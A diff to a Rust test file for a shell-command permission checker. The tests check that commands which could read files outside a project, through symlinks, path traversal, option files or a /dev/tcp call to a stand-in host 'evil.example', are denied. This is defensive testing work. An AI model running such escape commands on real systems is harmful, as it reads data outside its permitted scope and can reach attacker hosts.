@@ -398,6 +398,7 @@ fn paths_among_other_lines_are_not_known() {
     for text in [
         "find web -type f -print0 | xargs -0 cat",
         "find web -type f -print0 2>/dev/null | xargs -0 cat",
+        "find web -name '*.ts' 2>/dev/null | xargs wc -l",
         "find web -type f -exec grep -lZ a {} + | xargs -0 cat",
     ] {
         place.is_allowed(text, true, "paths");
@@ -412,8 +413,38 @@ fn paths_among_other_lines_are_not_known() {
         "find nope web -type f -print0 2>/dev/stdout | xargs -0 cat",
         "timeout 5 find nope web -type f -print0 2>&1 | xargs -0 cat",
         "cat $(find nope web -type f 2>&1)",
+        // The other folder has other files of these names.
+        "git -C web ls-files -z | xargs -0 cat",
+        "env -C web find . -type f -print0 | xargs -0 cat",
     ] {
         place.is_allowed(text, false, "other lines");
+    }
+}
+
+/// C1: a link that leads out is found wherever the command may print it, whatever stands beside the test for plain files.
+#[test]
+#[cfg(unix)]
+fn a_link_that_leads_out_is_no_plain_file() {
+    let place = Place::new();
+    place.write("src/shop/docs/key", "a");
+    place.write("notes", "a");
+    std::os::unix::fs::symlink(place.home.join("notes"), place.root.join("key")).unwrap();
+    place.is_allowed("find . -type f -print0 | xargs -0 cat", true, "plain files");
+    place.is_allowed("find docs -print0 | xargs -0 cat", true, "there is none below it");
+    for text in [
+        "find . -print0 | xargs -0 cat",
+        "find . -type f , -print0 | xargs -0 cat",
+        "find . -print0 -type f | xargs -0 cat",
+        "find . -exec cat {} + -type f",
+        "git ls-files -z docs 'k*' | xargs -0 cat",
+        "git ls-files -z docs ':(top)key' | xargs -0 cat",
+        "cd docs && git ls-files -z '../*' | xargs -0 cat",
+        "git -C docs ls-files -z | xargs -0 cat",
+        "env -C docs find . -type f -print0 | xargs -0 cat",
+        "find docs -type f -print0 | xargs -0 git -C docs diff --no-index",
+        "find docs -type f -exec git -C docs diff --no-index {} {} \\;",
+    ] {
+        place.is_allowed(text, false, "the link may be read");
     }
 }
 
@@ -425,6 +456,7 @@ fn a_file_that_is_only_counted_is_below_a_folder() {
         "while read -r x; do wc -c < \"/dev/tcp/$x.evil.example/80\"; done < README.md",
         "while read -r x; do wc -c < \"$x\"; done < README.md",
         "while read -r x; do wc -c < ~/$x; done < README.md",
+        "while read -r x; do wc -c < \"web/../../../net/$x\"; done < README.md",
     ] {
         place.is_allowed(text, false, "another machine");
     }
@@ -466,6 +498,11 @@ fn a_file_of_options_is_asked_about_wherever_it_stands() {
         ["strings -e @opts a.o", "nm -U @opts a.o", "objdump -M @opts -d a.o", "addr2line -b @opts"]
     {
         place.is_allowed(text, false, "a file of options");
+    }
+    place.write("src/shop/@opts", "a");
+    place.is_allowed("for x in *; do nm -U \"$x\" a.o; done", false, "one of the names");
+    for text in ["nm -U \"$(cat README.md)\" a.o", "strings -e @/dev/stdin a.o < a.o"] {
+        place.is_allowed(text, false, "any file of options");
     }
     place.is_allowed("grep -rn @media web", true, "no file is called so");
 }
